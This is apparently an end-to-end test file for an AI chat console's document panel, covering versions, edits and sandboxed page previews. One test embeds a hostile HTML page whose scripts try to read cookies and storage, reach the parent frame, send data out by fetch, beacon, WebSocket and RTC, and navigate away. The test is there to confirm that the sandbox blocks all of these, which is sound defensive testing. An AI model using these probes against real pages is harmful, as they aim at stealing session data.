import { createSocket } from 'node:dgram'
import { createServer } from 'node:net'
import type { AddressInfo } from 'node:net'
import { expect, test } from 'vitest'
import { useStarted } from '../support/use-started.ts'
import { look, say, startConsole } from './support.ts'

const site = useStarted(() => startConsole())

const page1 = '<!doctype html><title>Tide table</title><h1>High water</h1><p>At six.</p>'
const page2 = page1.replace('six', 'seven')
const byHand = page1.replace('six', 'six in the morning')
const inAnswer = (code: string) => `Here it is:\n\n\`\`\`html\n${code}\n\`\`\`\n\nEnjoy.`

test('code of an answer is a document beside the chat: changed by hand and by asking, with its versions', async () => {
  const { page, user } = await site.signedIn()
  await page.setViewportSize({ width: 1440, height: 900 })
  site.model.reply({ text: inAnswer(page1) })
  await say(page, 'A page with the tides')
  await page.getByText('Enjoy.').first().waitFor()
  await page.getByRole('button', { name: 'Open beside the chat' }).click()
  const panel = page.getByRole('complementary', { name: 'Document Tide table' })
  await panel.waitFor()
  const shown = page.frameLocator('iframe.document-page').frameLocator('iframe')
  await shown.getByRole('heading', { name: 'High water' }).waitFor()
  await panel.getByText('Version 1 · by an answer').waitFor()
  await site.expectAccessible(page, 'a document')
  await look(page, 'document-1440-light')

  // By hand: it goes with the next question, in which only its name is shown.
  await panel.getByRole('tab', { name: 'Text' }).click()
  await panel.getByRole('textbox', { name: 'Text of the document' }).fill(byHand)
  await panel.getByText('Not saved yet').waitFor()
  await site.expectAccessible(page, 'a document that is written')
  await look(page, 'document-edited')
  const asked = site.model.reply({ text: `Done.\n\n\`\`\`\`html\n${page2}\n\`\`\`\`` })
  await panel.getByRole('textbox', { name: 'Ask for a change' }).fill('Make it seven')
  await page.keyboard.press('Enter')
  const { messages } = (await asked.arrived).body
  expect(messages[0]?.content).toContain('A document named "Tide table" is open beside the chat')
  expect(messages.at(-1)?.content).toContain(`Make it seven\n\n<document id="`)
  expect(messages.at(-1)?.content).toContain(`>\n${byHand}\n</document>`)
  await panel.getByText('Version 3 · by an answer').waitFor()
  expect(await page.locator('.turn-human').last().innerText()).not.toContain('<document')
  await page.locator('.turn-human').last().getByRole('button', { name: 'Tide table, version 2' }).waitFor()
  await expect.poll(() => panel.getByRole('textbox', { name: 'Text of the document' }).inputValue()).toBe(page2)

  // What the model wrote last it is not told again.
  const second = site.model.reply({ text: 'It is a table of tides.' })
  await say(page, 'What is this?')
  const question = String((await second.arrived).body.messages.at(-1)?.content)
  expect(question).toMatch(
    /^What is this\?\n\n<document id="[\w-]+" version="3" name="Tide table" language="html" \/>$/,
  )
  await page.locator('.markdown', { hasText: 'It is a table of tides.' }).waitFor()

  // An earlier version becomes the newest.
  await panel.getByRole('button', { name: 'Versions' }).click()
  await page.getByRole('menuitem', { name: /Version 2 by hand/ }).click()
  await panel.getByText('Version 2 of 3 · by hand').waitFor()
  await expect.poll(() => panel.getByRole('textbox', { name: 'Text of the document' }).inputValue()).toBe(byHand)
  await panel.getByRole('button', { name: 'Make it the newest' }).click()
  await panel.getByText('Version 4 · by hand').waitFor()
  const saved = page.waitForEvent('download')
  await panel.getByRole('button', { name: 'Download' }).click()
  expect((await saved).suggestedFilename()).toBe('Tide table.html')

  // It is still there when the chat is opened again, and answers that nobody saw are taken then.
  const threadId = page.url().split('/').at(-1)
  const [document] = await user.get(`/threads/${threadId}/documents`)
  expect(document.versions.map(({ made_by: kind }: { made_by: string }) => kind)).toEqual([
    'answer',
    'person',
    'answer',
    'person',
  ])
  await page.reload()
  await page.getByRole('button', { name: 'Files of this chat' }).click()
  await look(page, 'documents-list')
  await page.getByRole('button', { name: 'Open Tide table beside the chat' }).click()
  await shown.getByText('At six in the morning.').waitFor()
  await page.evaluate(() => localStorage.setItem('assistant-platform.theme', 'dark'))
  await page.setViewportSize({ width: 390, height: 844 })
  await page.reload()
  // It is open still, and over the chat.
  await panel.getByText('Version 4').waitFor()
  await page.goBack()
  await page.locator('.turn-human').last().getByRole('button', { name: 'Tide table, version 3' }).click()
  await panel.getByText('Version 3 of 4').waitFor()
  await site.expectAccessible(page, 'a document on a phone, dark')
  await look(page, 'document-390-dark')
  await panel.getByRole('button', { name: 'Delete the document' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Delete the document' }).click()
  await panel.waitFor({ state: 'detached' })
  expect(await user.get(`/threads/${threadId}/documents`)).toEqual([])
})

test('an answer that came while nobody looked becomes a version when the chat is opened', async () => {
  const { page, user, assistantId } = await site.signedIn()
  const { thread_id: threadId } = await user.post('/threads/', { name: 'Tides', assistant_id: assistantId })
  await user.put(`/threads/${threadId}/documents/d1`, { name: 'Tides', language: 'html', content: page1, base: 0 })
  const asked = 'Seven\n\n<document id="d1" version="1" name="Tides" language="html">\nx\n</document>'
  await user.post(`/threads/${threadId}/state`, {
    values: [
      { type: 'human', content: asked },
      { type: 'ai', content: inAnswer(page2), id: 'answer-1' },
    ],
  })
  await page.goto(`${site.url}/console/chat/${threadId}`)
  await page.getByText('Enjoy.').waitFor()
  const versions = async () => (await user.get(`/threads/${threadId}/documents`))[0].versions
  await expect.poll(async () => (await versions()).at(-1)).toMatchObject({ number: 2, message_id: 'answer-1' })
  await page.reload()
  await page.getByRole('button', { name: 'Open beside the chat' }).click()
  await page.getByText('Version 2 · by an answer').waitFor()
  expect(await versions()).toHaveLength(2)
})

test('a question about a document is there with its chat, before anything else is loaded', async () => {
  const { page, user, assistantId } = await site.signedIn()
  const { thread_id: threadId } = await user.post('/threads/', { name: 'Tides', assistant_id: assistantId })
  const asked = 'Make it seven\n\n<document id="d1" version="2" name="Tide table" language="html" />'
  await user.post(`/threads/${threadId}/state`, { values: [{ type: 'human', content: asked }] })
  let isRead = false
  page.on('response', (response) => {
    isRead ||= new URL(response.url()).pathname === `/threads/${threadId}/state`
  })
  // What is asked for once the chat has been read does not come.
  await page.route('**/console-assets/*', (route) => (isRead ? undefined : route.continue()))
  await page.goto(`${site.url}/console/chat/${threadId}`)
  await page.getByText('Make it seven', { exact: true }).waitFor()
  await page.getByRole('button', { name: 'Tide table, version 2' }).waitFor()
  await page.unrouteAll({ behavior: 'ignoreErrors' })
})

test('German: the words of a document', async () => {
  const { page } = await site.signedIn()
  await page.evaluate(() => localStorage.setItem('assistant-platform.language', 'de'))
  await page.setViewportSize({ width: 1440, height: 900 })
  await page.reload()
  site.model.reply({ text: inAnswer(page1) })
  await page.getByRole('textbox', { name: 'Nachricht', exact: true }).fill('Eine Seite')
  await page.keyboard.press('Enter')
  await page.getByRole('button', { name: 'Neben dem Chat öffnen' }).click()
  await page.getByText('Version 1 · von einer Antwort').waitFor()
  await look(page, 'document-german')
})

test('the preview of a page makes no request, and reads nothing of the console', async () => {
  const reached: string[] = []
  const server = createServer((socket) => {
    socket.on('data', (data) => void reached.push(data.toString('latin1').split('\r\n')[0] ?? ''))
    socket.on('error', () => {})
    reached.push('a connection')
    socket.end(
      'HTTP/1.1 200 OK\r\ncontent-type: text/html\r\naccess-control-allow-origin: *\r\ncontent-length: 2\r\n\r\nhi',
    )
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const udp = createSocket('udp4')
  udp.on('message', () => void reached.push('a datagram'))
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))
  const away = `127.0.0.1:${(server.address() as AddressInfo).port}`
  const hostile = `<!doctype html><title>Hostile</title>
<link rel="stylesheet" href="http://${away}/link.css"><link rel="prefetch" href="http://${away}/prefetch">
<link rel="preconnect" href="http://${away}"><link rel="preload" as="image" href="http://${away}/preload">
<style>@import url(http://${away}/import.css); body { background: url(http://${away}/background.png) }</style>
<img src="http://${away}/img.png"><iframe src="http://${away}/frame"></iframe><object data="http://${away}/object"></object>
<video src="http://${away}/video"></video><script src="http://${away}/script.js"></script>
<script src="/console-assets/any.js"></script>
<a id="top" href="http://${away}/top" target="_top">x</a><a id="blank" href="http://${away}/blank" target="_blank">x</a>
<script>
const done = {}
const attempt = async (name, action) => {
  try { const value = await action(); done[name] = 'did: ' + String(value).slice(0, 60) } catch (error) { done[name] = error.name }
}
(async () => {
  await attempt('localStorage', () => localStorage.length)
  await attempt('sessionStorage', () => sessionStorage.length)
  await attempt('cookie', () => document.cookie)
  await attempt('indexedDB', () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = () => resolve('open'); asked.onerror = () => reject(asked.error) }))
  await attempt('parent', () => parent.document.title)
  await attempt('top', () => top.document.title)
  await attempt('top storage', () => top.localStorage.length)
  await attempt('fetch', () => fetch('http://${away}/fetch', { mode: 'no-cors' }))
  await attempt('fetch of the service', () => fetch('${site.url}/health', { mode: 'no-cors' }))
  await attempt('import', () => import('http://${away}/module.js'))
  await attempt('beacon', () => { if (!navigator.sendBeacon('http://${away}/beacon', 'x')) throw new TypeError('x') })
  await attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://${away}/socket'); socket.onopen = resolve; socket.onerror = () => reject(new TypeError('x')) }))
  await attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = () => reject(new TypeError('x')) }))
  await attempt('eval', () => eval('1'))
  await attempt('open', () => { if (window.open('http://${away}/open') === null) throw new TypeError('x') })
  await attempt('top navigation', () => { top.location.href = 'http://${away}/top-location' })
  await attempt('parent navigation', () => { parent.location.href = 'http://${away}/parent-location' })
  await attempt('clicks', () => { for (const id of ['top', 'blank']) document.getElementById(id).click() })
  await attempt('inner frame', () => { const frame = document.createElement('iframe'); frame.srcdoc = '<img src="http://${away}/inner.png"><script>fetch("http://${away}/inner-fetch")<' + '/script>'; document.body.append(frame) })
  await attempt('rtc', async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()) })
  await new Promise((resolve) => setTimeout(resolve, 1500))
  top.postMessage({ done }, '*')
})()
</script>`
  const { page } = await site.signedIn()
  const finished: string[] = []
  await page.evaluate(
    `void (window.heard = new Promise((resolve) => addEventListener('message', ({ data }) => data?.done && resolve(data.done))))`,
  )
  site.model.reply({ text: `\`\`\`html\n${hostile}\n\`\`\`` })
  await say(page, 'Something hostile')
  await page.locator('.code-wrap').getByRole('button', { name: 'Open beside the chat' }).click()
  await page.getByText('Version 1 · by an answer').waitFor()
  // Of the frame: the page around it asks the service for what it needs.
  page.on('requestfinished', (request) => {
    if (request.frame() !== page.mainFrame()) finished.push(request.url())
  })
  // Without the reader's wish its scripts do not run.
  await page.getByText('The scripts of this page do not run.').waitFor()
  await site.expectAccessible(page, 'a page with scripts')
  const inner = () => page.frames().find((frame) => frame.url() === 'about:srcdoc')
  await expect.poll(() => inner()?.title()).toBe('Hostile')
  await page.getByRole('button', { name: 'Run its scripts' }).click()
  const done = await page.evaluate<Record<string, string>>('heard')
  expect(Object.keys(done).length).toBeGreaterThan(15)
  for (const name of ['localStorage', 'sessionStorage', 'cookie', 'indexedDB', 'parent', 'top', 'top storage'])
    expect(done[name], name).toBe('SecurityError')
  for (const name of ['fetch', 'fetch of the service', 'import', 'socket', 'open', 'eval', 'top navigation', 'rtc'])
    expect(done[name], name).not.toMatch(/^did/)
  // A page that sends itself elsewhere is one that the browser refuses; forms are not sent, and nothing without scripts.
  const leaving: [content: string, isRefused: boolean][] = [
    [`<meta http-equiv="refresh" content="0;url=http://${away}/refresh">`, false],
    [
      `<form action="http://${away}/form"></form><script>document.title += '!'; document.forms[0].submit()</script>`,
      false,
    ],
    [`<script>location.href = 'http://${away}/location?' + document.title</script>`, true],
    [`<a href="http://${away}/link" ping="http://${away}/ping">x</a><script>document.links[0].click()</script>`, true],
    [`<script>location.href = '${site.url}/health?from=frame'</script>`, true],
  ]
  const panel = page.getByRole('complementary', { name: /^Document/ })
  for (const [place, [content, isRefused]] of leaving.entries()) {
    await panel.getByRole('tab', { name: 'Text' }).click()
    await panel.getByRole('textbox', { name: 'Text of the document' }).fill(`<title>${place}</title>${content}`)
    await panel.getByRole('tab', { name: 'Preview' }).click()
    await expect.poll(() => inner()?.title()).toBe(String(place))
    if (!content.includes('<script')) continue
    await panel.getByRole('button', { name: 'Run its scripts' }).click()
    const isOver = async () =>
      isRefused
        ? page.frames().some((frame) => frame.url().startsWith('chrome-error:'))
        : (await inner()?.title()) === `${place}!`
    await expect.poll(isOver).toBe(true)
  }
  expect(reached).toEqual([])
  expect(finished.filter((url) => !url.endsWith('/document-preview'))).toEqual([])
  expect(page.url()).toContain(`${site.url}/console/chat/`)
  expect(await page.evaluate("localStorage.getItem('assistant-platform.session') !== null")).toBe(true)
  // The browser wrote each refusal into its log.
  site.problems.length = 0
  server.close()
  udp.close()
})

test('the preview frame has a policy of its own', async () => {
  const answer = await fetch(`${site.service.url}/document-preview`)
  const policy = answer.headers.get('content-security-policy') ?? ''
  expect(policy).toMatch(/^sandbox allow-scripts; default-src 'none'; /)
  expect(policy).not.toMatch(/allow-same-origin|'self'(?!$)|https?:|\*/)
  expect(policy).toMatch(/frame-ancestors 'self'$/)
})

test('an image drawn as SVG, a table and a long answer have a preview', async () => {
  const { page } = await site.signedIn({ 'type==agent/tools': [{ type: 'code' }] })
  site.model.reply({
    text: '```svg\n<svg viewBox="0 0 10 10"><title>A buoy</title><circle cx="5" cy="5" r="4"/></svg>\n```',
  })
  await say(page, 'Draw a buoy')
  await page.getByRole('button', { name: 'Open beside the chat' }).click()
  const shown = page.frameLocator('iframe.document-page').frameLocator('iframe')
  await expect.poll(() => shown.locator('circle').count()).toBe(1)
  await page.getByRole('button', { name: 'Close the document' }).click()

  site.model.reply({
    toolCalls: [{ name: 'code', arguments: { code: 'open("tides.csv", "w").write("day,metres\\n1,2.5\\n")' } }],
  })
  site.model.reply({ text: `# The tides\n\n${'It is a long story. '.repeat(80)}` })
  await say(page, 'A table')
  await page.getByText('It is a long story.').first().waitFor()
  await page.getByText('Executed Python').click()
  await page.getByRole('button', { name: 'Open tides.csv beside the chat' }).click()
  await page.getByRole('complementary', { name: 'Document tides.csv' }).getByRole('cell', { name: '2.5' }).waitFor()
  await page.locator('.turn-ai').last().getByRole('button', { name: 'Open beside the chat' }).click()
  const panel = page.getByRole('complementary', { name: 'Document The tides' })
  await panel.getByRole('heading', { name: 'The tides', level: 1 }).waitFor()
})
